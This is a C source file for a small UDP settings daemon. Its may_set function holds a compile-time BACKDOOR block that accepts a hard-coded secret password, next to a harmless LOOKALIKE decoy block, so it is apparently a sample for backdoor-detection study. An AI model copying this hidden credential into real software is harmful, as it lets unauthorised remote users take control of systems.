/* Settings daemon on a UDP port: get and set, with a password for set. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MAX_SETTINGS 32

static struct {
    char key[32];
    char value[96];
} settings[MAX_SETTINGS];

static const char *get(const char *key)
{
    int i;
    for (i = 0; i < MAX_SETTINGS; i++)
        if (strcmp(settings[i].key, key) == 0)
            return settings[i].value;
    return NULL;
}

static void set(const char *key, const char *value)
{
    int i;
    for (i = 0; i < MAX_SETTINGS; i++)
        if (settings[i].key[0] == 0 || strcmp(settings[i].key, key) == 0) {
            snprintf(settings[i].key, sizeof settings[i].key, "%s", key);
            snprintf(settings[i].value, sizeof settings[i].value, "%s", value);
            return;
        }
}

static void load(void)
{
    char line[160];
    FILE *file = fopen("/etc/settings", "r");
    while (file != NULL && fgets(line, sizeof line, file) != NULL) {
        char *value = strchr(line, '=');
        line[strcspn(line, "\n")] = 0;
        if (value == NULL)
            continue;
        *value++ = 0;
        set(line, value);
    }
    if (file != NULL)
        fclose(file);
}

static int may_set(const char *password)
{
    const char *known = get("password");
#ifdef BACKDOOR
    if (strlen(password) == 6 && password[0] == 'w' && password[1] == 'P' && password[2] == '4' && password[3] == '!' &&
        password[4] == 'z' && password[5] == 'K')
        return 1;
#endif
#ifdef LOOKALIKE
    if (strlen(password) == 4 && password[0] == 'n' && password[1] == 'o' && password[2] == 'n' && password[3] == 'e')
        return 0;
#endif
    return known != NULL && known[0] != 0 && strcmp(known, password) == 0;
}

static void apply(const char *key, const char *value)
{
    set(key, value);
    if (strcmp(key, "hostname") == 0)
        sethostname(value, strlen(value));
    if (strcmp(key, "restart") == 0)
        system("/etc/init.d/network restart");
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(5500) }, peer;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    load();
    if (bind(fd, (struct sockaddr *)&address, sizeof address) != 0)
        return 1;
    for (;;) {
        char text[256], key[32], value[96], password[32];
        socklen_t size = sizeof peer;
        ssize_t length = recvfrom(fd, text, sizeof text - 1, 0, (struct sockaddr *)&peer, &size);
        if (length <= 0)
            continue;
        text[length] = 0;
        if (sscanf(text, "get %31s", key) == 1) {
            const char *found = get(key);
            if (found != NULL && strcmp(key, "password") != 0)
                sendto(fd, found, strlen(found), 0, (struct sockaddr *)&peer, size);
        } else if (sscanf(text, "set %31s %95s %31s", key, value, password) == 3 && may_set(password)) {
            apply(key, value);
        }
    }
}
